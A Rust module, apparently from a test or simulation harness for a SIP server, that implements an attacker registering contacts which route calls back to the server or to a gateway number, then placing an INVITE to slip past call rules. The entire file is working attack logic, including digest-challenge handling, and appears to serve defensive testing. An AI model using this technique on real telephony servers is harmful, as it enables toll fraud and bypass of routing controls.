//! A call to an account of the stranger whose contacts lead where no call may go: back to the server, or to
//! the gateway past the rules.
//!
//! The account registers over a connection that then ends. A call to a contact with a flow would take that
//! flow. A call to one without a flow goes to the contact's address.

use std::net::{IpAddr, SocketAddr};

use super::node::{Output, Wire};
use super::server::config::{SIP_PORT, domain_name};
use super::{ACCOUNTS, GATEWAY};
use crate::agent::Challenge;
use crate::message::{View, bracketed};

/// Prefix of the branches of these requests.
pub(super) const BRANCH: &str = "z9hG4bK-evil-lure-";
/// Number of contacts that the account registers, one with each REGISTER: a small server has no room for more
/// at a time.
const CONTACTS: usize = 4;
/// Most challenges that are answered; after more the attack has failed.
const MOST_CHALLENGES: u32 = 3;

/// An attack of this kind, until its call.
#[derive(Debug)]
pub(super) struct Lure {
    domain: usize,
    own: SocketAddr,
    server: SocketAddr,
    gateway: bool,
    /// The connection of the registration.
    pub(super) wire: Wire,
    pub(super) received: Vec<u8>,
    challenge: Option<Challenge>,
    challenges: u32,
    /// Number of contacts whose REGISTER has a response.
    done: usize,
    cseq: u32,
    serial: u32,
}

/// The next step after a response to a REGISTER.
#[derive(Debug)]
pub(super) enum Next {
    /// Send this REGISTER.
    Register(String),
    /// Close the connection, and then send this call.
    Call(Output),
}

impl Lure {
    /// An attack of the account in a domain from `own`, at the domain's `server`. `serial` distinguishes its
    /// requests from others.
    pub(super) const fn new(
        (own, server): (SocketAddr, SocketAddr),
        domain: usize,
        gateway: bool,
        wire: Wire,
        serial: u32,
    ) -> Self {
        Self {
            domain,
            own,
            server,
            gateway,
            wire,
            received: Vec::new(),
            challenge: None,
            challenges: 0,
            done: 0,
            cseq: 0,
            serial,
        }
    }

    fn user(&self) -> &'static str {
        ACCOUNTS[self.domain].split('@').next().unwrap_or_default()
    }

    fn contact(&self) -> String {
        let n = self.done;
        match (self.gateway, n % 2) {
            (true, _) => format!(
                "sip:0019005550100@{}:{}",
                IpAddr::from(GATEWAY),
                usize::from(SIP_PORT) + n
            ),
            (false, 0) => format!("sip:{}@{};x={n}", self.user(), self.server),
            (false, _) => format!("sip:{};x={n}", ACCOUNTS[self.domain]),
        }
    }

    /// A request with From, Call-ID and the other header fields.
    fn request(&mut self, method: &str, uri: &str, transport: &str, more: &str) -> String {
        self.cseq += 1;
        let (own, n, cseq, aor) = (self.own, self.serial, self.cseq, ACCOUNTS[self.domain]);
        format!(
            "{method} {uri} SIP/2.0\r\nVia: SIP/2.0/{transport} {own};branch={BRANCH}{n}-{cseq};rport\r\n\
             Max-Forwards: 70\r\nFrom: <sip:{aor}>;tag=lure{n}\r\nTo: <sip:{aor}>\r\nCall-ID: evil-lure-{n}\r\n\
             CSeq: {cseq} {method}\r\n{more}Content-Length: 0\r\n\r\n"
        )
    }

    /// The REGISTER of the next contact.
    pub(super) fn register(&mut self) -> String {
        let uri = format!("sip:{}", domain_name(self.domain));
        let user = self.user();
        let answer = |challenge: &mut Challenge| challenge.answer(user, "REGISTER", &uri);
        let credentials = self.challenge.as_mut().map(answer);
        let credentials = credentials.map_or_else(String::new, |value| format!("Authorization: {value}\r\n"));
        let more = format!("Contact: <{}>;expires=60\r\n{credentials}", self.contact());
        self.request("REGISTER", &uri, "TCP", &more)
    }

    /// The next step after this response; `None` if the attack has failed.
    pub(super) fn response(&mut self, view: &View<'_>) -> Option<Next> {
        match view.status()? {
            ..200 => return None,
            401 => {
                self.challenges += 1;
                if self.challenges > MOST_CHALLENGES {
                    return None;
                }
                self.challenge = Some(Challenge::first(view.all("WWW-Authenticate"))?);
                return Some(Next::Register(self.register()));
            }
            200 => {}
            // The server may have no room for more contacts.
            _ if self.done > 0 => return Some(Next::Call(self.call())),
            _ => return None,
        }
        self.done += 1;
        Some(match self.done {
            CONTACTS.. => Next::Call(self.call()),
            _ => Next::Register(self.register()),
        })
    }

    fn call(&mut self) -> Output {
        let uri = format!("sip:{}", ACCOUNTS[self.domain]);
        let user = self.user();
        let answer = |challenge: &mut Challenge| challenge.answer(user, "INVITE", &uri);
        let credentials = self.challenge.as_mut().map(answer);
        let credentials =
            credentials.map_or_else(String::new, |value| format!("Proxy-Authorization: {value}\r\n"));
        let more = format!("Contact: <sip:evil@{}>\r\n{credentials}", self.own);
        Output::Datagram {
            from: self.own,
            to: self.server,
            bytes: self.request("INVITE", &uri, "UDP", &more).into_bytes(),
        }
    }
}

/// The ACK to a failure of such a call, without which the server would repeat the failure.
pub(super) fn ack(view: &View<'_>) -> Option<String> {
    let is_failure = view.status().is_some_and(|status| status >= 300) && view.method() == "INVITE";
    if !is_failure || !view.branch().starts_with(BRANCH) {
        return None;
    }
    let [via, from, to, call_id] = ["Via", "From", "To", "Call-ID"].map(|name| view.get(name));
    let (uri, number) = (bracketed(to), view.cseq().0);
    Some(format!(
        "ACK {uri} SIP/2.0\r\nVia: {via}\r\nMax-Forwards: 70\r\nFrom: {from}\r\nTo: {to}\r\nCall-ID: {call_id}\r\n\
         CSeq: {number} ACK\r\nContent-Length: 0\r\n\r\n"
    ))
}
